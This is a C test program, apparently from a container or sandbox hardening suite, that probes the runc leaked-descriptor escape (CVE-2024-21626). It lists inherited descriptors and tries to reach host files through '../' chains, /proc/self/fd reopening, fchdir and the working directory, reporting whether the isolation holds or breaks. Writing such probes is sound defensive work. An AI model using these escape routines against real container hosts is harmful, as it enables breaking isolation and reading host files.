/* SPDX-License-Identifier: Apache-2.0 */
/* Power that a descriptor of the host gives to its holder (CVE-2024-21626). A directory is a way to
 * the host's root. /proc/self/fd opens a file again with the rights of the inode, not with those of
 * the descriptor. */
#include "hostile.h"

#include <dirent.h>
#include <fcntl.h>

#define UP "../../../../../../../../../../../../../../../../"

static void extra(char **args) {
        DIR *dir = opendir("/proc/self/fd");
        char target[400];
        struct dirent *entry;
        ssize_t n;

        (void)args;
        if (!dir)
                untried("/proc/self/fd: %s", errno_name(errno));
        while ((entry = readdir(dir))) {
                int fd = atoi(entry->d_name);

                if (fd <= 2 || fd == dirfd(dir))
                        continue;
                n = readlinkat(dirfd(dir), entry->d_name, target, sizeof(target) - 1);
                broken("%d is %.*s", fd, n < 0 ? 0 : (int)n, target);
        }
        held("0, 1 and 2 only");
}

/* args: the descriptor, a path from the host's root without its leading slash. */
static void upward(char **args) {
        char path[1000];

        (void)snprintf(path, sizeof(path), UP "%s", args[1]);
        got(openat(atoi(args[0]), path, O_RDONLY | O_CLOEXEC));
}

static void upward_proc(char **args) {
        char path[1000];

        (void)snprintf(path, sizeof(path), "/proc/self/fd/%s/" UP "%s", args[0], args[1]);
        got(open(path, O_RDONLY | O_CLOEXEC));
}

static void upward_chdir(char **args) {
        char path[1000];

        if (fchdir(atoi(args[0])) < 0)
                held("%s", errno_name(errno));
        (void)snprintf(path, sizeof(path), UP "%s", args[1]);
        got(open(path, O_RDONLY | O_CLOEXEC));
}

static void below(char **args) {
        got(openat(atoi(args[0]), args[1], O_RDONLY | O_CLOEXEC));
}

static void reopen(char **args) {
        char path[64];

        (void)snprintf(path, sizeof(path), "/proc/self/fd/%s", args[0]);
        got(open(path, O_WRONLY | O_CLOEXEC));
}

/* Goes up from the working directory: the root does not stop a process in a directory outside of
 * it. */
static void upward_cwd(char **args) {
        char path[1000];

        (void)snprintf(path, sizeof(path), UP "%s", args[0]);
        got(open(path, O_RDONLY | O_CLOEXEC));
}

static const Attack attacks[] = {
        { "extra", extra, 0 },
        { "upward", upward, 2 },
        { "upward-proc", upward_proc, 2 },
        { "upward-chdir", upward_chdir, 2 },
        { "below", below, 2 },
        { "reopen", reopen, 1 },
        { "upward-cwd", upward_cwd, 1 },
};

int main(int argc, char **argv) {
        return hostile_main(attacks, ELEMENTSOF(attacks), argc, argv);
}
